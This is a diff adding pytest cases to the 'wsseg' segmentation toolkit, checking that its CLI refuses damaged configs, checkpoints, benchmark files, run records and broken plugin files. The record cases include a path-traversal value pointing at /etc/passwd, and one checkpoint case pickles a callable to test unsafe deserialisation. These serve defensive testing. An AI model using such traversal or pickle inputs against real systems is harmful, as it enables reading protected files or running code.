+EXEMPT: set[tuple[str, str]] = set()
+
+
+def _kind(hint: object) -> str | None:
+    import types
+    import typing
+
+    args = [a for a in typing.get_args(hint) if a is not type(None)]
+    if typing.get_origin(hint) in (typing.Union, types.UnionType) and len(args) == 1:
+        hint = args[0]
+    if hint is bool:
+        return "bool"
+    if hint in (int, float):
+        return hint.__name__  # type: ignore[union-attr]
+    if typing.get_origin(hint) is Literal:
+        return "choice"
+    if typing.get_origin(hint) is tuple or hint is tuple:
+        return "tuple"
+    return None
+
+
+def _set_cases() -> list[tuple[str, str, str]]:
+    """(method, section.field, value) for every settable field and bad value."""
+    import dataclasses
+    import typing
+
+    from wsseg.config import DataConfig, EvalConfig, TrainConfig
+    from wsseg.registry import get_method_spec, list_methods
+
+    cases: list[tuple[str, str, str]] = []
+    for section, cls in (("data", DataConfig), ("train", TrainConfig), ("eval", EvalConfig)):
+        hints = typing.get_type_hints(cls)
+        for f in dataclasses.fields(cls):
+            key = f"{section}.{f.name}"
+            kind = _kind(hints[f.name])
+            values = BAD_STRINGS.get(key, ()) if kind is None else BAD_VALUES[kind]
+            cases += [("cam", key, v) for v in values if (key, v) not in EXEMPT]
+    for method in list_methods():
+        spec = get_method_spec(method)
+        if spec.source != "built-in":
+            continue
+        hints = typing.get_type_hints(spec.cls.Config)
+        for f in dataclasses.fields(spec.cls.Config):
+            key = f"method.{f.name}"
+            kind = _kind(hints[f.name])
+            values = BAD_STRINGS.get(key, ()) if kind is None else BAD_VALUES[kind]
+            cases += [(method, key, v) for v in values]
+    # Values that parse but that no run can use: sizes and strides the networks cannot take.
+    cases += [
+        ("cam", "method.output_stride", "7"),
+        ("cam", "method.input_downsample", "0"),
+        ("cam", "method.input_downsample", "1000"),
+        ("gmic", "method.num_crops", "0"),
+        ("glam", "method.local_depth", "19"),
+        ("gmic", "method.local_in_chans", "2"),
+        ("glam", "method.local_in_chans", "2"),
+        ("unet", "method.encoder_depth", "9"),
+        ("cam", "data.n_train", "4000000000000"),
+        ("cam", "data.n_train", "6"),
+        ("cam", "train.epochs", "1000000000"),
+        ("cam", "train.batch_size", "1000000000"),
+        ("cam", "eval.n_bins", "1000000000"),
+    ]
+    return cases
+
+
+SET_CASES = _set_cases()
+
+
+@pytest.fixture(scope="module")
+def files_for_values(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
+    """A text file and a folder to pass where a weights file is expected (shared, read-only)."""
+    base = shared_dir(tmp_path_factory, "values")
+    (base / "notes.txt").write_text("not weights\n")
+    (base / "a-folder").mkdir()
+    return {"{text}": str(base / "notes.txt"), "{folder}": str(base / "a-folder")}
+
+
+@pytest.mark.parametrize(("method", "key", "value"), SET_CASES, ids=[f"{m} {k}={v!r}" for m, k, v in SET_CASES])
+def test_generated_set_value(
+    method: str, key: str, value: str, files_for_values: dict[str, str], tiny_root: Path, case: Path
+) -> None:
+    value = files_for_values.get(value, value)
+    cache = tiny_root.parent.parent
+    args = ["run", "--method", method, "--profile", "tiny", "--out", str(case / "runs"), "--cache-dir", str(cache)]
+    result = invoke([*args, "-q", "--set", f"{key}={value}"])
+    assert_refused(result, key)
+    assert not (case / "runs").exists(), "a refused configuration must not create its run folder"
+
+
+FLAG_CASES: dict[str, tuple[list[str], str]] = {
+    **{f"--seed {v}": (["--seed", v], "--seed") for v in ("-1", str(2**32), str(2**64), str(10**15))},
+    **{f"--epochs {v}": (["--epochs", v], "train.epochs") for v in ("0", "-1", "1000000000")},
+    **{f"--batch-size {v}": (["--batch-size", v], "train.batch_size") for v in ("0", "-5", "1000000000")},
+    "--profile huge": (["--profile", "huge"], "huge"),
+    "--device tpu": (["--device", "tpu"], "train.device"),
+    "--dataset nope": (["--dataset", "nope"], "nope"),
+}
+
+
+@pytest.mark.parametrize("name", list(FLAG_CASES))
+def test_generated_run_flag(name: str, tiny_root: Path, case: Path) -> None:
+    flags, fragment = FLAG_CASES[name]
+    args = ["run", "--method", "cam", "--profile", "tiny", "--out", str(case / "runs")]
+    assert_refused(invoke([*args, "--cache-dir", str(tiny_root.parent.parent), "-q", *flags]), fragment)
+    assert not (case / "runs").exists()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 11. Resuming a run whose config.json or last.pt is damaged: every field of the saved config with a value of the
+# wrong type, out of range or huge, unknown and missing keys, and files that are not JSON. Refused naming the file
+# and the key, before any data is read; nothing in the run folder changes.
+
+
+@pytest.fixture(scope="module")
+def finished_runs(tmp_path_factory: pytest.TempPathFactory, tiny_root: Path) -> dict[str, Path]:
+    """Finished tiny runs (shared, read-only): CAM with its maps saved, CAM of seed 1 and the uniform reference."""
+    base = shared_dir(tmp_path_factory, "runs")
+    cache = str(tiny_root.parent.parent)
+    common = [
+        "--profile",
+        "tiny",
+        "--out",
+        str(base),
+        "--cache-dir",
+        cache,
+        "-q",
+        "--set",
+        "eval.bootstrap_resamples=20",
+    ]
+    for run_id, extra in (
+        ("cam", ["--method", "cam", "--save-maps", "--epochs", "1"]),
+        ("cam1", ["--method", "cam", "--seed", "1", "--epochs", "1"]),
+        ("uniform", ["--method", "uniform"]),
+    ):
+        result = invoke(["run", *extra, *common, "--run-id", run_id])
+        assert result.exit_code == 0, result.output
+    return {name: base / name for name in ("cam", "cam1", "uniform")}
+
+
+def _config_json_cases() -> list[tuple[str, object]]:
+    """(key path, new value or a marker) for config.json; ``<del>`` removes the key."""
+    import dataclasses
+    import typing
+
+    from wsseg.config import DataConfig, EvalConfig, TrainConfig
+
+    # JSON values of the wrong type or out of range, by the field's type. A field left out is not among them: it
+    # takes the profile's value (configs saved by older versions lack the newer fields).
+    bad_json: dict[str | None, tuple[object, ...]] = {
+        "int": ("abc", -1, 1e300, [1], True, None),
+        "float": ("abc", -1, 1e300, [1], True),
+        "bool": ("yes", 2, None),
+        "choice": ("nope", 3),
+        "tuple": ("x", [[1]]),
+        None: (3, {"a": 1}),  # strings
+    }
+    cases: list[tuple[str, object]] = []
+    for section, cls in (("data", DataConfig), ("train", TrainConfig), ("eval", EvalConfig)):
+        hints = typing.get_type_hints(cls)
+        for f in dataclasses.fields(cls):
+            key = f"{section}.{f.name}"
+            optional = type(None) in typing.get_args(hints[f.name])
+            cases += [(key, v) for v in bad_json[_kind(hints[f.name])] if not (v is None and optional)]
+        cases += [(f"{section}.unknown_key", 1), (section, [1, 2]), (section, "<del>")]
+    for name, value in (("backbone", 3), ("output_stride", 7), ("input_downsample", 0), ("input_downsample", "x")):
+        cases.append((f"method_config.{name}", value))
+    cases += [("method_config.unknown_key", 1), ("method_config", "x")]
+    cases += [("seed", -1), ("seed", 2**64), ("seed", "0"), ("profile", "huge"), ("method", "nope"), ("method", 3)]
+    cases += [("extra_top_level_key", 1)]
+    # A CAM run explains no other classifier; `explains` is null or {method, method_config} of a method it reads.
+    cases += [("explains", "gmic"), ("explains", [1]), ("explains", {"method": "gmic", "method_config": {}})]
+    return cases
+
+
+CONFIG_JSON_CASES = _config_json_cases()
+CONFIG_FILE_CASES: dict[str, kit.Mutation] = {
+    **{name: m for name, m in FILE_MUTATIONS.items() if name not in ("text",)},
+    "not JSON": kit.text,
+    "a JSON list": lambda p: p.write_text("[1, 2]\n"),
+    "truncated JSON": kit.truncate_to(0.5),
+}
+
+
+def _resume(run_dir: Path, tiny_root: Path, method: str = "cam") -> Result:
+    args = ["run", "--method", method, "--profile", "tiny", "--resume", "--run-id", run_dir.name]
+    return invoke([*args, "--out", str(run_dir.parent), "--cache-dir", str(tiny_root.parent.parent), "-q"])
+
+
+@pytest.mark.parametrize(
+    ("key", "value"), CONFIG_JSON_CASES, ids=[f"config.json {k}={v!r}" for k, v in CONFIG_JSON_CASES]
+)
+def test_generated_config_json_on_resume(
+    key: str, value: object, finished_runs: dict[str, Path], tiny_root: Path, case: Path
+) -> None:
+    import json
+
+    run_dir = kit.copy_tree(finished_runs["cam"], case / "runs" / "cam")
+    config = json.loads((run_dir / "config.json").read_text())
+    *parents, last = key.split(".")
+    node = config
+    for p in parents:
+        node = node[p]
+    if value == "<del>":
+        del node[last]
+    else:
+        node[last] = value
+    (run_dir / "config.json").write_text(json.dumps(config))
+    before = kit.snapshot(run_dir)
+    assert_refused(_resume(run_dir, tiny_root), "config.json", last if last != "method_config" else "method")
+    assert kit.snapshot(run_dir) == before
+
+
+@pytest.mark.parametrize("mutation", list(CONFIG_FILE_CASES))
+def test_generated_config_file_on_resume(
+    mutation: str, finished_runs: dict[str, Path], tiny_root: Path, case: Path
+) -> None:
+    run_dir = kit.copy_tree(finished_runs["cam"], case / "runs" / "cam")
+    CONFIG_FILE_CASES[mutation](run_dir / "config.json")
+    assert_refused(_resume(run_dir, tiny_root), "config.json")
+
+
+def test_config_json_with_a_bom_resumes(finished_runs: dict[str, Path], tiny_root: Path, case: Path) -> None:
+    """Not a bad input: a config.json saved by an editor with a byte-order mark is read."""
+    run_dir = kit.copy_tree(finished_runs["uniform"], case / "runs" / "uniform")
+    (run_dir / "last.pt").write_bytes((run_dir / "best.pt").read_bytes())  # a resumable folder
+    kit.add_bom(run_dir / "config.json")
+    result = _resume(run_dir, tiny_root, "uniform")
+    assert result.exit_code == 0, result.output
+
+
+CHECKPOINT_CASES: dict[str, kit.Mutation] = {
+    **{name: m for name, m in FILE_MUTATIONS.items() if name != "deleted"},
+    "code in the pickle": lambda p: p.write_bytes(pickle.dumps(os.getcwd)),
+    "no model entry": lambda p: __import__("torch").save({"epoch": 1}, p),
+}
+
+
+@pytest.mark.parametrize("mutation", list(CHECKPOINT_CASES))
+def test_generated_checkpoint_on_resume(
+    mutation: str, finished_runs: dict[str, Path], tiny_root: Path, case: Path
+) -> None:
+    run_dir = kit.copy_tree(finished_runs["cam"], case / "runs" / "cam")
+    CHECKPOINT_CASES[mutation](run_dir / "last.pt")
+    assert_refused(_resume(run_dir, tiny_root), "last.pt")
+    assert (run_dir / "record.json").read_bytes() == (finished_runs["cam"] / "record.json").read_bytes()
+
+
+def test_diverging_training_stops_naming_the_step_and_keeps_the_last_good_checkpoint(
+    tiny_root: Path, case: Path
+) -> None:
+    """train.lr=1e30 without clipping: the loss becomes NaN; the run stops with exit 2 and one clear line."""
+    args = ["run", "--method", "cam", "--profile", "tiny", "--out", str(case / "runs"), "--run-id", "r", "-q"]
+    args += ["--cache-dir", str(tiny_root.parent.parent), "--set", "train.lr=1e30", "--set", "train.clip_grad=none"]
+    args += ["--set", "train.checkpoint_every=1", "--set", "train.warmup_steps=0"]
+    result = invoke(args)
+    assert_refused(result, "diverged", "train.lr", "step")
+    ckpt = case / "runs" / "r" / "last.pt"
+    if ckpt.exists():  # the last checkpoint written holds finite weights only
+        import torch
+
+        state = torch.load(ckpt, weights_only=True)
+        assert all(torch.isfinite(v).all() for v in state["model"].values() if v.is_floating_point())
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 12. Benchmark files: every key given values of the wrong type or out of range (beside the hand-written cases of
+# group 6), `set` items from the run-config table, and harmless variants (a byte-order mark) that must run.
+
+TOML_VALUES: dict[str, tuple[str, ...]] = {
+    # key: bad TOML values
+    "name": ("3", "[]", "true", '""', '"a/b"', '"../x"'),
+    "profile": ("3", '"huge"', "[]", '""'),
+    "datasets": ('"phantom"', "[1]", '["nope"]', "[]", "3", '[["phantom"]]'),
+    "methods": ("3", '["nope"]', "[1]", '"all"', '[["cam"]]', '["cam", "cam"]'),
+    "seeds": (
+        '["a"]',
+        "[-1]",
+        f"[{2**63 - 1}]",
+        f"[{2**32}]",
+        "[1.5]",
+        '"0"',
+        "[true]",
+        "[]",
+        "[0, 0]",
+        "[inf]",
+        "[nan]",
+    ),
+    "out": ("3", "[]", "true"),
+    "leaderboard": ("3", "[]", "true"),
+    "set": ('"train.epochs=1"', "[1]", '["x"]', '["train.epochs=0"]', '["data.n_train=4000000000000"]', '[""]'),
+    "device": ("3", '"tpu"', "[]"),
+    "data_root": ("3", "[]", "true"),
+}
+TOML_CASES = [(k, v) for k, values in TOML_VALUES.items() for v in values]
+
+
+@pytest.mark.parametrize(("key", "value"), TOML_CASES, ids=[f"{k} = {v}" for k, v in TOML_CASES])
+def test_generated_benchmark_value(key: str, value: str, case: Path) -> None:
+    path = case / "bench.toml"
+    path.write_bytes(toml_with(**{key: value}))
+    assert_refused(invoke(["benchmark", str(path), "-q"]), str(path), key)
+    assert sorted(p.name for p in case.iterdir()) == ["bench.toml", "tmp"]
+
+
+BENCH_FILE_CASES: dict[str, kit.Mutation] = {
+    **{name: m for name, m in FILE_MUTATIONS.items() if name not in ("deleted",)},
+    "with a non-UTF-8 byte": kit.latin1_byte,
+    "cut mid-line": kit.cut_mid_line,
+}
+
+
+@pytest.mark.parametrize("mutation", list(BENCH_FILE_CASES))
+def test_generated_benchmark_file(mutation: str, case: Path) -> None:
+    path = case / "bench.toml"
+    path.write_bytes(VALID_TOML.encode())
+    BENCH_FILE_CASES[mutation](path)
+    assert_refused(invoke(["benchmark", str(path), "-q"]), str(path))
+    assert not (case / "runs").exists()
+
+
+@pytest.mark.parametrize("variant", ["BOM", "CRLF"])
+def test_harmless_benchmark_file_variants_run(variant: str, tiny_root: Path, case: Path) -> None:
+    """Not bad inputs: a benchmark file with a byte-order mark or Windows line ends runs as the plain one."""
+    os.environ["WSSEG_CACHE_DIR"] = str(tiny_root.parent.parent)  # the session's phantom: nothing to generate
+    path = case / "bench.toml"
+    path.write_bytes(toml_with(methods='["uniform"]', set='["eval.bootstrap_resamples=0"]', out='"runs"'))
+    (kit.add_bom if variant == "BOM" else kit.crlf)(path)
+    result = invoke(["benchmark", str(path), "-q"])
+    assert result.exit_code == 0, result.output
+    assert (case / "runs" / "uniform-phantom-tiny-s0" / "record.json").is_file()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 13. Run records read by `wsseg leaderboard`, `wsseg compare` and `wsseg evaluate`: record.json (every key the
+# commands read given a value of the wrong type, a path that leaves the folder, the file itself broken), curves.json,
+# per_image_stats.npz, the saved maps and test_labels.csv. Refused naming the file; harmless variants (a
+# byte-order mark) give the intact output.
+
+RECORD_EDITS: list[tuple[str, object]] = [
+    ("method", 3),
+    ("method", {"a": 1}),
+    ("method", "<del>"),
+    ("schema_version", 99),
+    ("schema_version", "2"),
+    ("metrics", []),
+    ("metrics", "<del>"),
+    ("metrics.benign", 3),
+    ("metrics.benign", "<del>"),
+    ("metrics.benign.dice", "abc"),
+    ("metrics.benign.dice", [1]),
+    ("metrics.benign.threshold", "abc"),
+    ("metrics.benign.threshold", 2),
+    ("metrics.benign.threshold", "<del>"),
+    ("seed", "abc"),
+    ("seed", -1),
+    ("seed", 1e300),
+    ("seed", [0]),
+    ("intervals", [1]),
+    ("intervals.benign.dice", "x"),
+    ("dataset_info", [1]),
+    ("dataset_info.split_hashes", [1]),
+    # A cross-validation fold's block: the leaderboards group by k and the assignment and pool by fold.
+    ("dataset_info.folds", 3),
+    ("dataset_info.folds", {"k": 1, "fold": 0, "assignment": "a"}),
+    ("dataset_info.folds", {"k": 5, "fold": 5, "assignment": "a"}),
+    ("dataset_info.folds", {"k": 5, "fold": 0}),
+    ("timings", "x"),
+    ("timings.train", "x"),
+    ("throughput", [1]),
+    ("n_parameters", "x"),
+    ("evaluation", [1]),
+    ("evaluation.fixed_threshold", "x"),
+    ("references", [1]),
+    ("references.uniform_breast.benign.dice", "x"),
+    ("per_image", [1]),
+    ("per_image.stats", "../../../../../../etc/passwd"),
+    ("per_image.stats", 3),
+    ("thresholds", [1]),
+    ("thresholds.benign", "x"),
+    ("run_id", 3),
+    ("device", [1]),
+    ("profile", 3),
+    ("dataset", 3),
+    ("supervision", 3),
+    ("training", [1]),
+]
+RECORD_FILE_CASES: dict[str, kit.Mutation] = {
+    **{name: m for name, m in FILE_MUTATIONS.items() if name != "deleted"},
+    "a JSON list": lambda p: p.write_text("[1, 2]\n"),
+    "NaN spelled out": lambda p: p.write_text(p.read_text().replace('"dice": ', '"dice": NaNx', 1)),
+}
+CURVES_CASES: dict[str, kit.Mutation] = {
+    **{name: m for name, m in FILE_MUTATIONS.items() if name != "deleted"},
+    "a JSON list": lambda p: p.write_text("[1, 2]\n"),
+    "a class that is a number": lambda p: p.write_text('{"benign": 3, "malignant": 3}\n'),
+    "curves of strings": lambda p: p.write_text(
+        '{"benign": {"pr": {"threshold": ["a"], "recall": ["b"], "precision": ["c"]}, "froc": {"fppi": [], '
+        '"sensitivity": []}, "lesion_size": {"area_mm2": [], "dice": []}}}\n'
+    ),
+    "curves of unequal lengths": lambda p: p.write_text(
+        '{"benign": {"pr": {"threshold": [0.1, 0.2], "recall": [1], "precision": []}, "froc": {"fppi": [], '
+        '"sensitivity": []}, "lesion_size": {"area_mm2": [], "dice": []}}}\n'
+    ),
+    "a curve that is a string": lambda p: p.write_text(
+        '{"benign": {"pr": "x", "froc": "y", "lesion_size": "z"}, "malignant": {}}\n'
+    ),
+}
+STATS_CASES: dict[str, kit.Mutation] = {
+    **{name: m for name, m in FILE_MUTATIONS.items()},
+    "without image_ids": kit.rewrite_npz(image_ids=None),
+    "histograms of strings": kit.rewrite_npz(**{"benign.pos_hist": lambda z: z["benign.pos_hist"].astype(str)}),
+    "histograms 1-D": kit.rewrite_npz(**{"benign.pos_hist": lambda z: z["benign.pos_hist"].ravel()}),
+    "negative counts": kit.rewrite_npz(**{"benign.neg_hist": lambda z: -z["benign.neg_hist"]}),
+    "n_bins 5": kit.rewrite_npz(n_bins=np.array(5)),
+    "one image id too many": kit.rewrite_npz(image_ids=lambda z: np.append(z["image_ids"], "extra")),
+    "spacing of strings": kit.rewrite_npz(spacing_mm=lambda z: z["spacing_mm"].astype(str)),
+    "classes unknown": kit.rewrite_npz(classes=np.array(["cyst"])),
+}
+
+
+GALLERY_CASES: dict[str, kit.Mutation] = {
+    **FILE_MUTATIONS,
+    "maps of another shape": kit.rewrite_npz(maps=lambda z: z["maps"][:, :1]),
+    "images 2-D": kit.rewrite_npz(images=lambda z: z["images"][0]),
+    "an unknown lesion class": kit.rewrite_npz(lesion_class=lambda z: np.full(len(z["lesion_class"]), "cyst")),
+    "images as float": kit.rewrite_npz(images=lambda z: z["images"].astype(np.float32)),
+}
+# A gallery that is not a file is shown as a missing gallery (a note in the report), as for runs made without one.
+GALLERY_ABSENT = ("deleted", "a folder", "a dangling link", "a FIFO")
+
+
+def _edit_json(key: str, value: object) -> kit.Mutation:
+    def change(path: Path) -> None:
+        import json
+
+        data = json.loads(path.read_text())
+        *parents, last = key.split(".")
+        node = data
+        for p in parents:
+            node = node[p]
+        if value == "<del>":
+            del node[last]
+        else:
+            node[last] = value
+        path.write_text(json.dumps(data))
+
+    return change
+
+
+def _records_cases() -> list[tuple[str, str, str]]:
+    """(command, file, mutation) of the group."""
+    cases = []
+    for command in ("leaderboard", "compare"):
+        cases += [(command, "record.json", f"{k}={v!r}") for k, v in RECORD_EDITS]
+        cases += [(command, "record.json", m) for m in RECORD_FILE_CASES]
+        cases += [(command, "per_image_stats.npz", m) for m in STATS_CASES]
+    cases += [("leaderboard", "curves.json", m) for m in CURVES_CASES]
+    cases += [("leaderboard", "gallery.npz", m) for m in GALLERY_CASES]
+    cases += [
+        ("evaluate", "record.json", m) for m in ("thresholds.benign='x'", "thresholds=[1]", "a JSON list", "empty")
+    ]
+    cases += [("evaluate", "maps/first.npy", m) for m in (*FILE_MUTATIONS, "with NaN", "transposed")]
+    cases += [("evaluate", "test_labels.csv", m) for m in (*FILE_MUTATIONS, "with a non-UTF-8 byte", "a bad row")]
+    cases += [("evaluate", "config.json", m) for m in ("empty", "text", "a JSON list", "train.epochs='x'")]
+    return cases
+
+
+RECORD_CASES = _records_cases()
+_RECORD_EDITS = {f"{k}={v!r}": _edit_json(k, v) for k, v in RECORD_EDITS}
+_OTHER_EDITS: dict[str, kit.Mutation] = {
+    "with NaN": kit.save_npy(lambda a: np.full_like(a, np.nan)),
+    "transposed": kit.save_npy(lambda a: np.ascontiguousarray(a.T)),
+    "with a non-UTF-8 byte": kit.latin1_byte,
+    "a bad row": lambda p: p.write_text(p.read_text() + "x,y,2,0,0,0\n"),
+    "text": kit.text,
+    "train.epochs='x'": _edit_json("train.epochs", "x"),
+    "thresholds.benign='x'": _edit_json("thresholds.benign", "x"),
+    "thresholds=[1]": _edit_json("thresholds", [1]),
+    "a JSON list": lambda p: p.write_text("[1, 2]\n"),
+}
+
+
+def _record_change(file: str, mutation: str) -> kit.Mutation:
+    tables: list[dict[str, kit.Mutation]] = [_RECORD_EDITS, _OTHER_EDITS]
+    tables.append(
+        {"record.json": RECORD_FILE_CASES, "curves.json": CURVES_CASES, "gallery.npz": GALLERY_CASES}.get(file, {})
+    )
+    tables += [STATS_CASES if file.endswith(".npz") else {}, FILE_MUTATIONS]
+    return next(t[mutation] for t in tables if mutation in t)
+
+
+@pytest.mark.parametrize(("command", "file", "mutation"), RECORD_CASES, ids=[" ".join(c) for c in RECORD_CASES])
+def test_generated_record_file(
+    command: str, file: str, mutation: str, finished_runs: dict[str, Path], tiny_root: Path, case: Path
+) -> None:
+    runs = case / "runs"
+    for name, src in finished_runs.items():
+        kit.copy_tree(src, runs / name)
+    target = runs / "cam" / file
+    if file == "maps/first.npy":
+        target = sorted((runs / "cam" / "maps").iterdir())[0]
+    if command == "leaderboard" and file == "per_image_stats.npz":
+        (runs / "cam" / "curves.json").unlink()  # the leaderboard rebuilds the curves from the statistics
+    _record_change(file, mutation)(target)
+    # Not damage for these commands: published runs carry no statistics (the curves are in curves.json), and a
+    # `wsseg score` record has no method.
+    legal = (
+        (command, file, mutation) == ("leaderboard", "per_image_stats.npz", "deleted")
+        or (command == "compare" and mutation == "method='<del>'")
+        or (file == "gallery.npz" and mutation in GALLERY_ABSENT)
+    )
+    if command == "leaderboard":
+        # The tables read the records; only the HTML report reads curves, statistics and galleries (and takes 3 s).
+        formats = "md,csv" if file == "record.json" else "md,html"
+        result = invoke(["leaderboard", str(runs), "--out", str(case / "lb"), "--format", formats])
+    elif command == "compare":
+        result = invoke(["compare", str(runs / "cam"), str(runs / "cam1"), "--n-resamples", "10"])
+    else:
+        cache = str(tiny_root.parent.parent)
+        result = invoke(["evaluate", "--run", str(runs / "cam"), "--out", str(case / "ev"), "--cache-dir", cache, "-q"])
+    if legal:
+        assert result.exit_code == 0, result.output
+        return
+    assert_refused(result, target.name)
+    assert not (case / "lb").exists() and not (case / "ev" / "record.json").exists()
+
+
+@pytest.mark.parametrize("command", ["leaderboard", "compare"])
+def test_record_with_a_bom_reads_as_the_intact_one(command: str, finished_runs: dict[str, Path], case: Path) -> None:
+    """Not a bad input: a record.json re-saved with a byte-order mark gives the same output."""
+    outputs = []
+    for variant in ("intact", "bom"):
+        runs = case / variant
+        for name, src in finished_runs.items():
+            kit.copy_tree(src, runs / name)
+        if variant == "bom":
+            kit.add_bom(runs / "cam" / "record.json")
+        if command == "leaderboard":
+            result = invoke(["leaderboard", str(runs), "--out", str(case / f"lb-{variant}"), "--format", "md,csv"])
+            assert result.exit_code == 0, result.output
+            outputs.append(sorted((p.name, p.read_bytes()) for p in (case / f"lb-{variant}").rglob("*.csv")))
+        else:
+            result = invoke(["compare", str(runs / "cam"), str(runs / "cam1"), "--n-resamples", "10"])
+            assert result.exit_code == 0, result.output
+            outputs.append(result.output.replace(str(runs), ""))
+    assert outputs[0] == outputs[1]
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 14. Plugin files (`wsseg run --plugin FILE`): ones that exit, interrupt, fail to import, clash with a built-in or
+# with each other, or register nothing. `wsseg run` fails with exit 2 naming the plugin file, never exits 0
+# silently; the registry is restored after each case.
+
+PLUGIN_METHOD = '''
+from wsseg.method import ClassifierConfig, PostHocCAMMethod
+from wsseg.registry import register_method
+
+
+@register_method("{name}")
+class Plugin(PostHocCAMMethod):
+    """A plugin."""
+
+    Config = ClassifierConfig
+    saliency_requires_grad = False
+
+    def predict(self, images):
+        return self(images)
+'''
+PLUGIN_SOURCES: dict[str, tuple[str | bytes, str]] = {
+    # case: (file content, the method name asked for)
+    "sys.exit(0)": ("import sys\nsys.exit(0)\n", "p_exit"),
+    "sys.exit(1)": ("import sys\nsys.exit(1)\n", "p_exit"),
+    "raise SystemExit": ("raise SystemExit\n", "p_exit"),
+    "raise KeyboardInterrupt": ("raise KeyboardInterrupt\n", "p_exit"),
+    "raise GeneratorExit": ("raise GeneratorExit\n", "p_exit"),
+    "a syntax error": ("def (:\n", "p_bad"),
+    "an import error": ("import no_such_module_for_wsseg\n", "p_bad"),
+    "infinite recursion": ("def f():\n    return f()\nf()\n", "p_bad"),
+    "NUL bytes": (b"\x00\x00import os\n", "p_bad"),
+    "binary garbage": (bytes(range(256)), "p_bad"),
+    "empty": ("", "p_nothing"),
+    "registers nothing": ("x = 1\n", "p_nothing"),
+    "registers a built-in name": (PLUGIN_METHOD.format(name="cam"), "cam"),
+    "registers a plain class": (
+        "from wsseg.registry import register_method\n@register_method('p_plain')\nclass P:\n    pass\n",
+        "p_plain",
+    ),
+    "registers a name with a slash": (PLUGIN_METHOD.format(name="p/x"), "p/x"),
+}
+
+
+@pytest.fixture
+def clean_registry() -> Iterator[None]:
+    """Restore the method registry (and the plugin modules) after a case that loads plugin files."""
+    import sys
+
+    import wsseg.registry as registry
+
+    registry.list_methods()  # discover the entry points first, so that they are part of the saved state
+    saved = (dict(registry._REGISTRY), dict(registry._BROKEN), dict(getattr(registry, "_PLUGIN_FILES", {})))
+    modules = set(sys.modules)
+    try:
+        yield
+    finally:
+        registry._REGISTRY.clear()
+        registry._REGISTRY.update(saved[0])
+        registry._BROKEN.clear()
+        registry._BROKEN.update(saved[1])
+        if hasattr(registry, "_PLUGIN_FILES"):
+            registry._PLUGIN_FILES.clear()
+            registry._PLUGIN_FILES.update(saved[2])
+        for name in set(sys.modules) - modules:
+            if name.startswith("wsseg_plugin_"):
+                del sys.modules[name]
+
+
+def _run_plugins(case: Path, tiny_root: Path, plugins: list[Path], method: str) -> Result:
+    args = ["run", "--method", method, "--profile", "tiny", "--out", str(case / "runs"), "-q"]
+    args += ["--cache-dir", str(tiny_root.parent.parent)]
+    for p in plugins:
+        args += ["--plugin", str(p)]
+    return invoke(args)
+
+
+@pytest.mark.parametrize("name", list(PLUGIN_SOURCES))
+def test_generated_plugin_file(name: str, clean_registry: None, tiny_root: Path, case: Path) -> None:
+    content, method = PLUGIN_SOURCES[name]
+    path = case / "plugins" / "p_plugin.py"
+    path.parent.mkdir()
+    path.write_bytes(content.encode() if isinstance(content, str) else content)
+    result = _run_plugins(case, tiny_root, [path], method)
+    assert_refused(result, str(path))
+    assert not (case / "runs").exists()
+
+
+PLUGIN_PAIRS: dict[str, tuple[str, str, str]] = {
+    # case: (first file's method, second file's method, the method asked for); both files are named p_same.py
+    "same stem, same method name": ("p_same", "p_same", "p_same"),
+    "same stem, other method names": ("p_one", "p_two", "p_two"),
+}
+
+
+@pytest.mark.parametrize("name", list(PLUGIN_PAIRS))
+def test_generated_plugin_pair(name: str, clean_registry: None, tiny_root: Path, case: Path) -> None:
+    first, second, method = PLUGIN_PAIRS[name]
+    paths = []
+    for folder, registered in (("a", first), ("b", second)):
+        path = case / folder / "p_same.py"
+        path.parent.mkdir()
+        path.write_text(PLUGIN_METHOD.format(name=registered))
+        paths.append(path)
+    result = _run_plugins(case, tiny_root, paths, method)
+    assert_refused(result, str(paths[0]), str(paths[1]))
+    assert not (case / "runs").exists()
+
+
+@pytest.mark.parametrize("what", ["a folder", "a FIFO", "a dangling link", "not .py"])
+def test_generated_plugin_path(what: str, clean_registry: None, tiny_root: Path, case: Path) -> None:
+    path = case / ("p_plugin.py" if what != "not .py" else "p_plugin.txt")
+    path.write_text(PLUGIN_METHOD.format(name="p_plugin"))
+    {"a folder": kit.to_folder, "a FIFO": kit.fifo, "a dangling link": kit.dangling_link}.get(what, lambda p: None)(
+        path
+    )
+    assert_refused(_run_plugins(case, tiny_root, [path], "p_plugin"), str(path))
+
+
+def test_damaged_real_cache_is_repaired_by_the_command_the_error_names(
+    caches: dict[str, tuple[Path, list[str], dict[str, object]]], case: Path
+) -> None:
+    """The error of group 8 names `wsseg data prepare ...`; running it re-prepares the file and the run succeeds."""
+    import shlex
+
+    intact_cache, flags, intact_metrics = caches["manifest"]
+    cache = kit.copy_tree(intact_cache, case / "cache")
+    target = sorted(cache.rglob("test/*.npz"))[0]
+    kit.flip_member_byte("image.npy")(target)
+    failed = _uniform_run(case / "runs", cache, *flags)
+    assert_refused(failed, target.name, "wsseg data prepare manifest")
+    command = failed.output.split("`")[1]  # the command the message names, as a user would paste it
+    repaired = invoke([*shlex.split(command)[1:], "--cache-dir", str(cache), "--workers", "1"])
+    assert repaired.exit_code == 0 and target.name in repaired.output, repaired.output
+    result = _uniform_run(case / "runs2", cache, *flags)
+    assert result.exit_code == 0, result.output
+    assert _metrics(case / "runs2" / "r") == intact_metrics
+
+
+def test_data_prepare_phantom_regenerates_damaged_files(
+    caches: dict[str, tuple[Path, list[str], dict[str, object]]], case: Path
+) -> None:
+    intact_cache = caches["phantom"][0]
+    cache = kit.copy_tree(intact_cache, case / "cache")
+    targets = sorted(cache.rglob("val/*.npz"))[:2]
+    kit.flip_member_byte("image.npy")(targets[0])
+    kit.truncate_to(0.5)(targets[1])
+    result = invoke(["data", "prepare", "phantom", "--profile", "tiny", "--cache-dir", str(cache), "--workers", "1"])
+    assert result.exit_code == 0, result.output
+    assert all(f"regenerated the damaged cache file {t}" in result.output for t in targets), result.output
+    for t in targets:  # the same arrays (the zip's timestamps differ)
+        with np.load(t) as new, np.load(intact_cache / t.relative_to(cache)) as old:
+            assert new.files == old.files and all(np.array_equal(new[k], old[k]) for k in new.files)
